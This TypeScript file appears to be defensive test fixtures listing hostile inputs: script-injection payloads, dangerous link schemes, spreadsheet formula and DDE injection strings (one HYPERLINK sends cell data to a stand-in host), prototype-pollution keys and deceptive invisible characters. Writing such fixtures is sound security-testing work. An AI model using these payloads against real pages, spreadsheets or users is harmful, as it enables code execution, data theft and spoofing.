/** Texts that would run as script where a page took them for markup; each would set `window.__pwned`. */
export const SCRIPTS = [
  "<script>window.__pwned=1</script>",
  "<img src=x onerror=window.__pwned=1>",
  '"><svg/onload=window.__pwned=1>',
  "x'-window.__pwned=1-'",
  "</title><script>window.__pwned=1</script>",
  "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
  "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s></svg>",
  "<math><mtext><style><img src=x onerror=window.__pwned=1></style></mtext></math>",
  "<a href=javascript:window.__pwned=1>press</a>",
  "<style>@import 'https://elsewhere.example/x.css';*{background:url(https://elsewhere.example/x)}</style>",
  "<link rel=stylesheet href=https://elsewhere.example/x.css>",
  "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
  "{{constructor.constructor('window.__pwned=1')()}}",
  "${window.__pwned=1}",
  "{name, select, other {<script>window.__pwned=1</script>}}",
] as const;

/** Addresses that must never become a link. */
export const BAD_LINKS = [
  "javascript:window.__pwned=1",
  "JaVaScRiPt:window.__pwned=1",
  "  javascript:window.__pwned=1",
  "\u0001javascript:window.__pwned=1",
  "java\tscript:window.__pwned=1",
  "java\nscript:window.__pwned=1",
  "javascript\u003awindow.__pwned=1",
  "javascript&colon;window.__pwned=1",
  "&#106;avascript:window.__pwned=1",
  "vbscript:msgbox(1)",
  "data:text/html,<script>window.__pwned=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
  "blob:https://elsewhere.example/1",
  "file:///etc/passwd",
  "filesystem:https://elsewhere.example/x",
  "view-source:https://elsewhere.example/",
  "ｊａｖａｓｃｒｉｐｔ:window.__pwned=1",
  "//elsewhere.example/x",
  "\\\\elsewhere.example\\x",
  "/relative",
  "#fragment",
  "http:",
  "https://",
  "https:// elsewhere.example",
  "mailto:",
] as const;

/** Cells that a spreadsheet would compute. */
export const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"press")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1)",
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML("https://elsewhere.example","//a")',
] as const;

/** Names that mean something on every object. */
export const OBJECT_NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "constructor.prototype.polluted",
  "__proto__.polluted",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
] as const;

/** Signs that are not seen, or turn the direction of what follows. */
export const INVISIBLE = [
  "mill\u202Elivro.exe",
  "a\u2066b\u2069c",
  "zero\u200Bwidth",
  "word\u2060joiner",
  "bell\u0007",
  "let\u061Cter",
] as const;

/** What a polluted object would show; `null` while none is. */
export function pollution(): string | null {
  const empty: Record<string, unknown> = {};
  for (const key in empty) return key;
  return empty["polluted"] === undefined ? null : "polluted";
}
